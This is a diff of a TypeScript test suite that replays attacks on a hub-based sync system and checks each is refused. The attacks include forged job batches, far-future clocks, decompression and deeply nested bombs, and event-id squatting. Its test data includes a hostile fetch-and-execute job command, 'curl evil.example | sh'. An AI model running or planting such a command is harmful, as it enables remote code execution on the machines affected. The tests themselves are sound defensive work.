@@ -1,4 +1,3 @@
-import { sqliteOf } from '../support/backend.js';
 import { writeFileSync, truncateSync } from 'node:fs';
 import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
@@ -7,7 +6,8 @@ import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
 import type { StateEngine } from '../../src/engine/index.js';
 import { sync, setTrustDocument, hubState, type BatchSecurity, type HubStorage, type SyncResult } from '../../src/sync/index.js';
-import { TestClock } from '../support/engine.js';
+import { onBackend, TestClock } from '../support/engine.js';
+import { allOf, fromOrigin as eventsFrom, headOf as head, streamOf } from '../support/log.js';
 import { directoryHub, noSecurity, openReplica } from '../support/replicas.js';
 import { makeTempDir, removeDir } from '../support/tmp.js';
 import { keyPair, plantBatch, plantRaw, recordedBy, signedBy, type KeyPair } from '../support/trust.js';
@@ -16,7 +16,7 @@ import { keyPair, plantBatch, plantRaw, recordedBy, signedBy, type KeyPair } fro
  * Each hole an attacker with write access to a hub found, replayed as the attack, and shown closed: the forged
  * batch refused with nothing of it applied, and honest data still flowing.
  */
-const Trust = suite('sync: an origin may say only what it is trusted to say (the attacks, replayed)');
+const Trust = suite(onBackend('sync: an origin may say only what it is trusted to say (the attacks, replayed)'));
 let dir = '';
 let clock: TestClock;
 let hub: HubStorage;
@@ -26,14 +26,14 @@ let replica: StateEngine;
 let honestKey: KeyPair;
 let evilKey: KeyPair;
 
-Trust.before.each(() => {
+Trust.before.each(async () => {
   dir = makeTempDir('trust');
   clock = new TestClock();
   clock.ms = Date.now(); // the clock bound is checked against the hub's own time of each object
   hub = directoryHub(dir);
-  honest = openReplica(dir, 'spoke-a', clock.now);
-  evil = openReplica(dir, 'evil', clock.now);
-  replica = openReplica(dir, 'replica', clock.now);
+  honest = await openReplica(dir, 'spoke-a', clock.now);
+  evil = await openReplica(dir, 'evil', clock.now);
+  replica = await openReplica(dir, 'replica', clock.now);
   honestKey = keyPair();
   evilKey = keyPair();
 });
@@ -53,9 +53,8 @@ const trusting = (): BatchSecurity => ({
 });
 const run = (engine: StateEngine, direction: 'push' | 'pull' | 'bidirectional', security: BatchSecurity = noSecurity): Promise<SyncResult> =>
   sync(engine, hub, { direction, policy: 'latest_wins', batchSize: 2, security, clock: clock.now });
-const fromOrigin = (engine: StateEngine, origin: string) =>
-  sqliteOf(engine).db.prepare<[string], { n: number }>('SELECT count(*) AS n FROM events WHERE origin = ?').get(origin)?.n ?? -1;
-const headOf = (engine: StateEngine) => sqliteOf(engine).headPositionSync();
+const fromOrigin = async (engine: StateEngine, origin: string) => (await eventsFrom(engine, origin)).length;
+const headOf = (engine: StateEngine) => head(engine);
 
 Trust('a forged batch of job events is refused whole, signed or not, and the scheduled command stays as it was', async () => {
   const job = await replica.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
@@ -63,20 +62,20 @@ Trust('a forged batch of job events is refused whole, signed or not, and the sch
   // The attacking spoke writes a job under the victim's job id in its own log, then signs it as a batch.
   await evil.jobs.add({ jobId: 'nightly', name: 'nightly', schedule: 'rate(1 day)', command: 'echo scan' });
   await evil.jobs.update('nightly', { schedule: 'rate(1 minute)', command: 'curl evil.example | sh' });
-  const forged = recordedBy(evil, (e) => e.stream.startsWith('job-'));
+  const forged = await recordedBy(evil, (e) => e.stream.startsWith('job-'));
   await plantBatch(hub, 'evil', forged, { position: 0, sha256: null }, signedBy(evilKey));
   await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
   assert.is((await run(honest, 'push', signedBy(honestKey))).success, true);
-  const before = headOf(replica);
+  const before = await headOf(replica);
   const result = await run(replica, 'pull', trusting());
   assert.is(result.success, false);
   assert.is(result.rejected_batches, 1);
   assert.match(result.errors.join('\n'), /pull evil: invalid batch evil\/0000000000\/\S+ line 1 \(evil\): "job-nightly" \(expected a scan, checkpoint, finding stream: only those replicate \(an origin may not send job events\)\)/);
-  assert.is(fromOrigin(replica, 'evil'), 0);
+  assert.is(await fromOrigin(replica, 'evil'), 0);
   assert.is((await replica.jobs.get('nightly'))?.command, 'echo scan');
   // Honest data still flows past the refused origin.
   assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
-  assert.ok(headOf(replica) > before);
+  assert.ok((await headOf(replica)) > before);
 });
 
 Trust('job events from elsewhere already in a log (written by an older version) never reach the jobs read model', async () => {
@@ -85,7 +84,8 @@ Trust('job events from elsewhere already in a log (written by an older version) 
   clock.advance(60); // the forged update folds after the replica's own events
   await evil.jobs.update('nightly', { command: 'curl evil.example | sh' });
   // What an older replica imported without the closed list: the store keeps them, the projection ignores them.
-  sqliteOf(replica).importSync(recordedBy(evil, (e) => e.stream.startsWith('job-')).map(({ position: _, ...e }) => e), { foldCap: null, clockLimit: Date.now() });
+  const jobEvents = (await recordedBy(evil, (e) => e.stream.startsWith('job-'))).map(({ position: _, ...e }) => e);
+  await replica.backend.importReplicated(jobEvents, { foldCap: null, clockLimit: Date.now() }, () => []);
   await replica.rebuildProjections();
   assert.is((await replica.jobs.get('nightly'))?.command, 'echo scan');
 });
@@ -145,7 +145,7 @@ Trust('an event recorded in year 5000 neither drags the clock nor wins latest_wi
   await run(evil, 'pull', trusting());
   const far = new TestClock();
   far.ms = Date.UTC(5000, 0, 1);
-  const lying = openReplica(dir, 'evil', far.now);
+  const lying = await openReplica(dir, 'evil', far.now);
   await lying.suppressFinding('f1', { by: 'evil', reason: 'hide it' });
   await lying.close();
   assert.is((await run(evil, 'push', signedBy(evilKey))).success, true);
@@ -156,7 +156,7 @@ Trust('an event recorded in year 5000 neither drags the clock nor wins latest_wi
   // The local clock went no further than its wall clock plus five minutes, and still moves on.
   clock.advance(1);
   await replica.resolveFinding('f1', { by: 'owner', reason: 'fixed' });
-  const [mine] = [...sqliteOf(replica).readStreamSync('finding-f1')];
+  const [mine] = await streamOf(replica, 'finding-f1');
   assert.ok((mine?.meta.recordedAt ?? '') < new Date(clock.ms + 6 * 60_000).toISOString(), mine?.meta.recordedAt);
   // Later than the capped instant, the local decision wins under latest_wins.
   clock.advance(10);
@@ -170,7 +170,7 @@ Trust('a hub whose clock runs ahead cannot drag the local clock past its wall cl
   await run(honest, 'push');
   const far = new TestClock();
   far.ms = Date.UTC(5000, 0, 1);
-  const lying = openReplica(dir, 'spoke-a', far.now);
+  const lying = await openReplica(dir, 'spoke-a', far.now);
   await lying.addFindingNote('f1', { by: 'x', text: 'from the future' });
   await lying.close();
   await run(honest, 'push');
@@ -181,7 +181,7 @@ Trust('a hub whose clock runs ahead cannot drag the local clock past its wall cl
   } };
   await sync(replica, ahead, { direction: 'pull', policy: 'latest_wins', batchSize: 2, security: noSecurity, clock: clock.now });
   await replica.addFindingNote('f1', { by: 'me', text: 'now' });
-  const [mine] = [...sqliteOf(replica).readStreamSync('finding-f1')];
+  const [mine] = await streamOf(replica, 'finding-f1');
   // At most the bound ahead (and a millisecond a transaction since, as a clock ahead of the wall still moves on).
   assert.ok((mine?.meta.recordedAt ?? '9') < new Date(clock.ms + 5 * 60_000 + 1000).toISOString(), mine?.meta.recordedAt);
 });
@@ -199,7 +199,7 @@ Trust('with STANCE_STATE_SYNC_KEY set, an unsealed batch is refused: no downgrad
 });
 
 Trust('a spoke that claims to be central decides nothing: central_wins follows the replica’s own configuration', async () => {
-  setTrustDocument(replica, { central: 'spoke-a' }, clock.now());
+  await setTrustDocument(replica, { central: 'spoke-a' }, clock.now());
   await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
   await sync(honest, hub, { direction: 'push', policy: 'central_wins', batchSize: 10, security: noSecurity, clock: clock.now });
   await sync(evil, hub, { direction: 'pull', policy: 'central_wins', batchSize: 10, security: noSecurity, central: true, clock: clock.now });
@@ -230,7 +230,7 @@ Trust('bombs are refused in bounded memory, naming the cap, and every other orig
   assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
   assert.ok(result.batches_pushed >= 1, 'the local push still ran');
   // A 100k-deep array on one line: refused by its depth, no stack overflow.
-  const deep = openReplica(dir, 'deep', clock.now);
+  const deep = await openReplica(dir, 'deep', clock.now);
   await hub.delete('evil/0000000000/0000000000000001-0000000000000001.ndjson.gz');
   await plantRaw(hub, 'evil/0000000000/0000000000000001-0000000000000001.ndjson.gz', Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}\n`), meta(1, 1));
   const nested = await run(deep, 'pull');
@@ -255,16 +255,16 @@ Trust('an object larger than the cap is refused before its body is read', async 
 
 Trust('an origin cannot squat another origin’s event ids: ids are scoped to their origin', async () => {
   await honest.trackFindings([{ findingId: 'f1', assetId: 'a', ruleId: 'r' }]);
-  const [real] = recordedBy(honest, (e) => e.stream === 'finding-f1');
+  const [real] = await recordedBy(honest, (e) => e.stream === 'finding-f1');
   // The squatter writes its own event under the honest event's id, and gets there first.
-  sqliteOf(evil).appendSync([{ stream: 'finding-f9', events: [{ id: real?.id ?? '', type: 'FindingNoteAdded', data: { findingId: 'f9', by: 'x', text: 'squat', at: clock.iso() } }] }]);
+  await evil.backend.commit([{ stream: 'finding-f9', events: [{ id: real?.id ?? '', type: 'FindingNoteAdded', data: { findingId: 'f9', by: 'x', text: 'squat', at: clock.iso() } }] }]);
   await run(evil, 'push');
   assert.equal((await run(replica, 'pull')).errors, []);
   await run(honest, 'push');
   const result = await run(replica, 'pull');
   assert.equal(result.errors, []);
   assert.is((await replica.getFindingState('f1'))?.lifecycle, 'new');
-  assert.is(sqliteOf(replica).db.prepare<[string], { n: number }>('SELECT count(*) AS n FROM events WHERE id = ?').get(real?.id ?? '')?.n, 2);
+  assert.is((await allOf(replica)).filter((e) => e.id === (real?.id ?? '')).length, 2);
 });
 
 Trust('a garbage object under one origin stops only that origin; the sync exits as bad input naming it', async () => {
